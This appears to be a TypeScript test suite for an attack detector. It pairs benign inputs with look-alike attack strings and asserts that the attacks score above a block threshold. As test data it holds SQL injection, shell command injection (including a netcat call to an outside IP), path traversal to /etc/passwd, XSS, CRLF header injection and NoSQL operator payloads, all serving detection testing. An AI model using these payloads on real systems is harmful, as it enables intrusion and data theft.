import assert from 'node:assert/strict';
import type { Place } from '../../src/detection/place.js';
import { found, score } from './found.js';

const BLOCKS = 40;

/** What people and programs send honestly, by what it may be taken for, and next to it an attack of nearly the same form. */
const CASES: Readonly<Record<string, { honest: readonly string[]; attacks: readonly string[]; place?: Place }>> = {
  'a password of random signs, for SQL': {
    honest: ["k{9~'#p^Q}3", "x'=[?]~7b$", 'Zr$"*~{t^=o8', "q@@3d'o=~}h", "Wm#4{k}';", `7^k"~d@b{ux:%e?`],
    attacks: ["ann'#", "ann';--", "ann' or 'a'='a'#{}~^$", "'='", "1'||'2'='2'#", '@@version', '@@datadir'],
  },
  'a password of random signs, for a command': {
    honest: ['p`Mv{3~', 'w;^du}8~Q)', 'k|sP9(":G', "T;W'0Qm<.k", 'h$(W(]z'],
    attacks: ['x;id', '`id`', 'x|id', '$(ls)', ';who^ami', 'a|nc 203.0.113.9 99'],
  },
  'a statement with places for values': {
    honest: [
      'SELECT "u".* FROM "u" WHERE "u"."id" = $1 AND "u"."gone" IS NULL LIMIT 1',
      'INSERT INTO orders (id, name) VALUES (?, ?)',
      'select a from b where c = :name and d in (%s)',
    ],
    attacks: [
      "1 union select a from b where c = 'x'",
      'select a from b where c = 1 -- ?',
      "x'; drop table b; select ?",
    ],
  },
  'a word that SQL has too': {
    honest: [
      'ERROR: syntax error at or near "select" at character 15',
      "Uncaught SyntaxError: Unexpected token '<'",
      'use strict;',
      'super.call(...args) {',
      'beer or case',
    ],
    attacks: ["x'; select pg_sleep(5)", "x' or case when 1=1 then 1 end", "'<'", '1 or case when 2>1 then 3 end'],
  },
  'a line of a program': {
    honest: [
      "\nexport { Batch } from './node';",
      "import x from '../../common/global';",
      'const a = require("../../instrumentation");',
      "let x: import('./reflect').Own;",
      'AwesomeMessage.prototype.run = function() { 0 };',
      'if (process.env.NODE_ENV === mode) start();',
      'copy(m[1:], m[:n])',
      'print(f"Hello {name}")',
      'super().__init__(self, name)',
    ],
    attacks: [
      'x\nexport PATH=/tmp/a; id',
      '../../../../etc/passwd',
      "require('../../../etc/passwd')",
      "import('https://evil.test/a.js')",
      '() { :; }; id',
      'process.env.SECRET',
      'print(md5(5))',
      "x.__init__.__globals__['os']",
    ],
  },
  'Markdown and chat': {
    honest: [
      '```bash',
      '`node` `v5.6`, `v4.3`',
      'Explain `rm -rf x` please',
      'see <https://a.example/x?y=1|link>: it is done',
      'COUNT(*)',
      '$ {command} --format=json',
      "{{ $t('hello') }}",
    ],
    attacks: ['`id`', 'x|ls -l', 'phpinfo()', "$ {'a'}", "$a('id')"],
  },
  'a paste from an office program': {
    honest: [
      '<!--[if gte mso 9]><xml><w:View>Normal</w:View></xml><![endif]--><p>x</p>',
      '<!--[if !supportLists]-->1.<!--[endif]-->',
      '<pre class="a" spellcheck="false">const a = 1;\nalert(a.b);\n</pre>',
      '<p>a</p><pre><code class="language-html">&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>',
    ],
    attacks: [
      '<!--[if IE]><b>x</b><![endif]-->',
      '<pre onclick="alert(1)">x</pre>',
      '<pre><img src=x onerror=alert(1)></pre>',
      '<pre>x</pre><script>alert(1)</script>',
    ],
  },
  'lines of names and texts in a URL': {
    place: 'query',
    honest: [
      'Format of this file\nUpstream-Name: LLVM',
      'p {\n    font-size: 85%;\n    border-radius: 6px;\n}',
      'BEGIN:VEVENT\nSUMMARY:Tea\nLOCATION:Room 5\nEND:VEVENT',
    ],
    attacks: ['en\r\nSet-Cookie: a=b', 'x\r\nX-Any: 1', 'en\nFoo-Bar: 1', 'BEGIN:VEVENT\r\nSet-Cookie: a=b'],
  },
  'a file of a project': {
    honest: ['docker/etc/nginx.conf', 'conf/php.ini', 'error.log', 'Look at /usr/share/doc/x and read'],
    attacks: ['/etc/nginx/nginx.conf', '../conf/php.ini', 'etc/passwd', '/var/log/nginx/error.log'],
  },
  'operators of another convention': {
    place: 'query',
    honest: ['filters[$and][0][title][$contains]'],
    attacks: ['filters[$and][0][title][$ne]', 'user[$ne]'],
  },
};

describe('what looks like an attack', () => {
  for (const [what, { honest, attacks, place = 'json' }] of Object.entries(CASES)) {
    const role = what.startsWith('operators') ? 'name' : 'value';
    const encode = place === 'query' ? encodeURIComponent : (value: string) => value;
    it(`passes when it is ${what}`, () => {
      for (const value of honest) {
        const seen = { place, role } as const;
        assert.ok(score(encode(value), seen) < BLOCKS, `${value}: ${found(encode(value), seen).join(' ')}`);
      }
    });
    it(`does not hide behind ${what}`, () => {
      for (const value of attacks) assert.ok(score(encode(value), { place, role }) >= BLOCKS, value);
    });
  }
});
